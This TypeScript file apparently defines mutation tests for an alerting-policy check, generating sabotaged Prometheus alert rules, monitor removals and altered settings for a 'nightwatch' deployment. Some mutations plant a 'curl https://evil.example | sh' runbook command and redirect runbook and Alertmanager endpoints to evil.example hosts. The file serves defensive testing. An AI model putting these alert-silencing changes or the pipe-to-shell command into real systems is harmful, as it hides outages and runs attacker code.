import type { Manifest } from "../../../../constructs/kubernetes/manifest.ts";
import { append, type Draft, get, set, watchedEstate } from "../draft.ts";
import { type Mutation, mutation } from "./mutation.ts";

const RULES = "PrometheusRule";
const NIGHTWATCH = "Deployment nightlane-system/nightwatch";

interface AlertRule {
  alert: string;
  expr: string;
  for?: string;
  labels: Record<string, string>;
  annotations: Record<string, string>;
}

const alertsOf = (manifest: Manifest): AlertRule[] => get(manifest, "spec/groups/0/rules") as AlertRule[];

const files = watchedEstate.platform.filter(({ kind }) => kind === RULES);

/** What keeps a call from a person, or sends it to another: rule 47. */
export const callMutations: readonly Mutation[] = [
  ...files.flatMap((file) =>
    alertsOf(file).flatMap(({ alert, ...rule }, index) => {
      const which = `${file.metadata.name} ${index + 1} ${alert}`;
      return [
        alerts(file, `${which} is gone`, (all) => all.splice(index, 1)),
        alerts(file, `${which} is never true`, () => ({ expr: `(${rule.expr}) and vector(0) == 1` }), index),
        alerts(file, `${which} must hold for a year`, () => ({ for: "1y" }), index),
        alerts(file, `${which} is for nobody`, () => ({ labels: { ...rule.labels, severity: "nobody" } }), index),
      ];
    }),
  ),
  ...files.flatMap((file) => [
    group(file, "is evaluated once a day", (it) => set(it, "spec/groups/0/interval", "24h")),
    group(file, "begins a month late", (it) => set(it, "spec/groups/0/query_offset", "720h")),
    group(file, "has no group", (it) => set(it, "spec/groups", [])),
    group(file, "records over a series of ours", (it) =>
      append(it, "spec/groups/0/rules", { record: "nightlane_night_late", expr: "vector(0)" }),
    ),
    group(file, "has another group", (it) =>
      append(it, "spec/groups", { name: "x", rules: [{ alert: "X", expr: "vector(1)" }] }),
    ),
    group(file, "sends people to another runbook", (it) =>
      set(it, "spec/groups/0/rules/0/annotations/runbook_url", "https://runbook.evil.example/#a-night-is-late"),
    ),
    group(file, "tells people to type something else", (it) =>
      set(it, "spec/groups/0/rules/0/annotations/command", "curl https://evil.example | sh"),
    ),
    watched(`${file.metadata.name} is gone`, `${RULES} ${file.metadata.name}`, (draft) =>
      draft.remove("platform", RULES, file.metadata.name),
    ),
  ]),
  watched("nobody reads nightwatch", "ServiceMonitor nightwatch", (draft) =>
    draft.remove("platform", "ServiceMonitor", "nightwatch"),
  ),
  watched("nobody reads the controller", "PodMonitor workflow-controller", (draft) =>
    draft.remove("platform", "PodMonitor", "workflow-controller"),
  ),
  ...(
    [
      ["a receiver's name for another address", "ip", "198.51.100.9"],
      ["another receiver's name", "hostnames", ["alerts.evil.example"]],
    ] as const
  ).map(([title, field, value]) =>
    watched(`nightwatch with ${title}`, NIGHTWATCH, (draft) =>
      set(nightwatch(draft), `spec/template/spec/hostAliases/0/${field}`, value),
    ),
  ),
  ...Object.entries({
    "no end": { "nightlane/finish-by": undefined },
    "a later end": { "nightlane/finish-by": "23:59" },
    "a beginning that nobody asked for": { "nightlane/start-by": "23:59" },
    "no time for its inputs": { "nightlane/inputs-by": undefined },
  }).map(([title, annotations]) =>
    mutation(47, `a night with ${title}`, "CronWorkflow customer-nordbank/night", (draft) => {
      const { metadata } = draft.object("nordbank", "CronWorkflow", "night");
      Object.assign(metadata, { annotations: { ...metadata.annotations, ...annotations } });
    }),
  ),
  ...["ALERTMANAGERS", "RUNBOOK"].flatMap((name) => [
    watched(`nightwatch without ${name}`, NIGHTWATCH, (draft) => {
      const at = "spec/template/spec/containers/0/env";
      const env = get(nightwatch(draft), at) as readonly { name: string }[];
      set(
        nightwatch(draft),
        at,
        env.filter((variable) => variable.name !== name),
      );
    }),
    watched(`nightwatch with another ${name}`, NIGHTWATCH, (draft) => {
      const env = get(nightwatch(draft), "spec/template/spec/containers/0/env") as { name: string; value?: string }[];
      for (const variable of env.filter((each) => each.name === name)) {
        variable.value = "https://evil.example";
      }
    }),
  ]),
];

/** Changes all alerts of a file, or what the change returns of one of them. */
function alerts(file: Manifest, title: string, change: (all: AlertRule[]) => unknown, index?: number): Mutation {
  return group(file, title, (it) => {
    const all = alertsOf(it);
    const changed = change(all);
    if (index !== undefined) {
      Object.assign(all[index] ?? {}, changed);
    }
  });
}

function group(file: Manifest, title: string, change: (file: Manifest) => void): Mutation {
  const { name, namespace } = file.metadata;
  return watched(`${name}: ${title}`, `${RULES} ${namespace}/${name}`, (draft) =>
    change(draft.object("platform", RULES, name)),
  );
}

function nightwatch(draft: Draft): Manifest {
  return draft.object("platform", "Deployment", "nightwatch");
}

function watched(title: string, object: string, change: (draft: Draft) => void): Mutation {
  return mutation(47, title, object, change, [], watchedEstate);
}
